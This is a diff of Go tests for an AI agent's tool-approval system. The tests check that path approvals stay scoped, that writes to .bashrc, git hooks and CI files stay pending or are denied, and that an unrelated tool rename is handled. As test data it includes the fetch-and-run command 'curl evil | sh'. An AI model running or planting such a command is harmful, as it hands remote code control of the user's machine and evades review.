@@ -216,20 +216,21 @@ func TestAlwaysAllowsExactlyTheTarget(t *testing.T) {
 	env := apptest.Start(t)
 	agent := env.Agent("writer", map[string]any{"rules": []map[string]any{
 		{"id": "files", "tool": "fs.*", "effect": "approve"},
+		{"id": "file-writes", "tool": "file.*", "effect": "approve"},
 		{"id": "mail", "tool": "email.send", "effect": "approve"},
 	}})
 	alice := env.Reviewer("alice")
 
-	w := submit(t, agent, "fs.write", map[string]any{"path": "docs/readme.md", "content": "v1"})
+	w := submit(t, agent, "file.write", map[string]any{"path": "docs/readme.md", "content": "v1"})
 	_, err := approveWith(t, alice, w.ID, "always")
 	require.NoError(t, err)
 	assert.Equal(t, 2, policyVersion(t, env.Admin, "writer"))
 
 	for _, p := range []string{"docs/readme.md", "./docs//readme.md", "docs/x/../readme.md"} {
-		got := submit(t, agent, "fs.write", map[string]any{"path": p, "content": "v2"})
+		got := submit(t, agent, "file.write", map[string]any{"path": p, "content": "v2"})
 		assert.Equal(t, "approved", got.Status, "same canonical path %q", p)
 	}
-	for _, c := range []struct{ tool, path string }{{"fs.write", "docs/other.md"}, {"fs.write", "README.md"}, {"fs.delete", "docs/readme.md"}} {
+	for _, c := range []struct{ tool, path string }{{"file.write", "docs/other.md"}, {"file.write", "README.md"}, {"fs.delete", "docs/readme.md"}} {
 		got := submit(t, agent, c.tool, map[string]any{"path": c.path, "content": "v2"})
 		assert.Equal(t, "pending", got.Status, "%s %s was not approved", c.tool, c.path)
 	}
@@ -309,18 +310,18 @@ func TestConcurrentScopedApprovalsAndDenies(t *testing.T) {
 func TestGrantNeverCoversCodeLater(t *testing.T) {
 	t.Parallel()
 	env := apptest.Start(t)
-	agent := env.Agent("writer", map[string]any{"rules": []map[string]any{{"id": "files", "tool": "fs.write", "effect": "approve"}}})
+	agent := env.Agent("writer", map[string]any{"rules": []map[string]any{{"id": "files", "tool": "file.write", "effect": "approve"}}})
 	alice := env.Reviewer("alice")
-	first := submitIn(t, agent, "conv", "fs.write", map[string]any{"path": "docs/a.md", "content": "x"})
+	first := submitIn(t, agent, "conv", "file.write", map[string]any{"path": "docs/a.md", "content": "x"})
 	_, err := approveWith(t, alice, first.ID, "conversation")
 	require.NoError(t, err)
-	assert.Equal(t, "approved", submitIn(t, agent, "conv", "fs.write", map[string]any{"path": "docs/b.md", "content": "y"}).Status)
+	assert.Equal(t, "approved", submitIn(t, agent, "conv", "file.write", map[string]any{"path": "docs/b.md", "content": "y"}).Status)
 	for _, p := range []string{".bashrc", ".husky/pre-commit", ".github/workflows/ci.yml"} {
-		got := submitIn(t, agent, "conv", "fs.write", map[string]any{"path": p, "content": "curl evil | sh"})
+		got := submitIn(t, agent, "conv", "file.write", map[string]any{"path": p, "content": "curl evil | sh"})
 		assert.Equal(t, "pending", got.Status, "%s runs code later: no grant covers it", p)
 	}
 	// A .git hook is not even pending: .git is read-only for every tool.
-	hook := submitIn(t, agent, "conv", "fs.write", map[string]any{"path": ".git/hooks/pre-commit", "content": "curl evil | sh"})
+	hook := submitIn(t, agent, "conv", "file.write", map[string]any{"path": ".git/hooks/pre-commit", "content": "curl evil | sh"})
 	assert.Equal(t, "denied", hook.Status)
 	assert.Equal(t, "read_only_paths", hook.Decision.Source)
 }
